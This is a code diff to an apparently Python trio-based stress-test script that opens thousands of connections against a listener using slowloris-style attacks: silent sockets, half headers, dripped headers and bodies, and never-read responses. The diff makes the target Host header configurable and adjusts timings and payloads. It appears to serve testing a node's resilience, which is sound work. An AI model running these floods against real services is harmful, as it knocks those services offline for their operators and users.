@@ -16,7 +16,8 @@ from typing import Final
 
 import trio
 
-HOST: Final = b"Host: pay.example\r\n"
+HOST: Final = b"Host: %b\r\n" % sys.argv[2].encode() if __name__ == "__main__" else b""
+"""As the attacked listener is called."""
 AGAIN_S: Final = 2.0
 """After this an attacker comes back whom the node has sent away."""
 UNSIGNED: Final = (
@@ -58,7 +59,7 @@ async def never_read(stream: trio.SocketStream) -> None:
     """Ask for a lot, and take none of it."""
     stream.setsockopt(trio.socket.SOL_SOCKET, trio.socket.SO_RCVBUF, 4_096)
     while True:
-        await stream.send_all(LARGE)
+        await stream.send_all(LARGE + LOOK_UP * 9)
         await trio.sleep(0.1)
 
 
@@ -99,8 +100,8 @@ async def touch(stream: trio.SocketStream) -> None:
 _BODY: Final = b"Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n"
 ATTACKS: Final[Mapping[str, tuple[int, float, Attack]]] = {
     # How many attackers there are, after how many seconds one comes again, what it does.
-    "silent connections": (10_000, AGAIN_S, say_nothing),
-    "half a header": (10_000, AGAIN_S, begin),
+    "silent connections": (10_000, 10 * AGAIN_S, say_nothing),
+    "half a header": (10_000, 10 * AGAIN_S, begin),
     "slow headers": (1_000, AGAIN_S, partial(drip, b"GET / HTTP/1.1\r\n" + HOST + b"A: ")),
     "slow bodies": (
         1_000,
@@ -141,4 +142,4 @@ async def _attack(port: int, attackers: int, names: Sequence[str]) -> None:
 
 
 if __name__ == "__main__":
-    trio.run(_attack, int(sys.argv[1]), int(sys.argv[2]), sys.argv[3:])
+    trio.run(_attack, int(sys.argv[1]), int(sys.argv[3]), sys.argv[4:])
